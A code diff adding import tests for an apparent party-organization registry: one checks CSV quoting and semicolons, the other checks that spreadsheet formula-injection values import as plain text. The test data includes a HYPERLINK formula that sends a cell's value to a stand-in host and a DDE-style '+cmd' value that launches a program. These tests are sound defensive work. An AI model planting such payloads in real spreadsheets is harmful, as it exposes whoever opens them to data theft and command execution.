@@ -309,6 +309,64 @@ def test_excel_and_csv_with_bom_and_semicolons_import_with_english_headers(
     assert app.load(Person, em.person_id).data.education is Education.lower_secondary
 
 
+def test_a_csv_with_doubled_quotes_and_semicolons_keeps_every_value_in_its_column(
+    app: Dangvien, tmp_path: Path
+) -> None:
+    # The header holds no quote: the dialect must come from the rows below it.
+    orgs = write(
+        tmp_path / "orgs.csv",
+        "code;name;kind;parent_code;setting;registered_on;hamlets",
+        'TU-QN;"Tỉnh ủy ""Quảng Ninh""; khối A";province_committee;;;1960-01-01;',
+        'X-QN;"Đảng ủy xã ""Hạ Long""";commune_committee;TU-QN;;1975-01-01;"TAY: Thôn Tây; '
+        'DONG: Thôn ""Đông"""',
+        "DB-QN;Đảng bộ khu dân cư;grassroots_committee;X-QN;;1975-01-01;",
+        'CB-QN;"Chi bộ ""thôn Tây""";cell;DB-QN;hamlet;1975-01-01;',
+    )
+    report = run(app, Kind.orgs, orgs)
+    assert not report.rejected, report.problems
+    assert len(report.added) == 4
+    province = app.load(Organization, org_id_for("TU-QN"))
+    commune = app.load(Organization, org_id_for("X-QN"))
+    cell = app.load(Organization, org_id_for("CB-QN"))
+    assert province.name == 'Tỉnh ủy "Quảng Ninh"; khối A'
+    assert province.kind is OrgKind.province_committee
+    assert commune.name == 'Đảng ủy xã "Hạ Long"'
+    assert dict(commune.hamlets) == {"TAY": "Thôn Tây", "DONG": 'Thôn "Đông"'}
+    assert (cell.name, cell.parent_id, cell.setting) == (
+        'Chi bộ "thôn Tây"',
+        org_id_for("DB-QN"),
+        CellSetting.hamlet,
+    )
+
+
+def test_a_value_that_looks_like_a_formula_is_imported_as_its_text(
+    app: Dangvien, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
+    csv_file = write(
+        tmp_path / "orgs.csv",
+        "code,name,kind,parent_code,setting,registered_on",
+        "TU-F,Tỉnh ủy F,province_committee,,,1960-01-01",
+        f'X-F,"{formula.replace(chr(34), chr(34) * 2)}",commune_committee,TU-F,,1975-01-01',
+        "DB-F,+cmd|' /C calc'!A0,grassroots_committee,X-F,,1975-01-01",
+        "CB-F,@SUM(1+1),cell,DB-F,hamlet,1975-01-01",
+    )
+    assert not run(app, Kind.orgs, csv_file).rejected
+    assert app.load(Organization, org_id_for("X-F")).name == formula
+    assert app.load(Organization, org_id_for("DB-F")).name == "+cmd|' /C calc'!A0"
+    assert app.load(Organization, org_id_for("CB-F")).name == "@SUM(1+1)"
+
+    # In a workbook, a formula cell is read as what was typed, never as what it computes.
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["code", "name", "kind", "parent_code", "setting", "registered_on"])
+    sheet.append(["CB-G", "=1+1", "cell", "DB-F", "hamlet", datetime(1975, 1, 1)])
+    xlsx = tmp_path / "cells.xlsx"
+    book.save(xlsx)
+    assert not run(app, Kind.orgs, xlsx).rejected
+    assert app.load(Organization, org_id_for("CB-G")).name == "=1+1"
+
+
 # --- a changed file ------------------------------------------------------------------------------
 
 
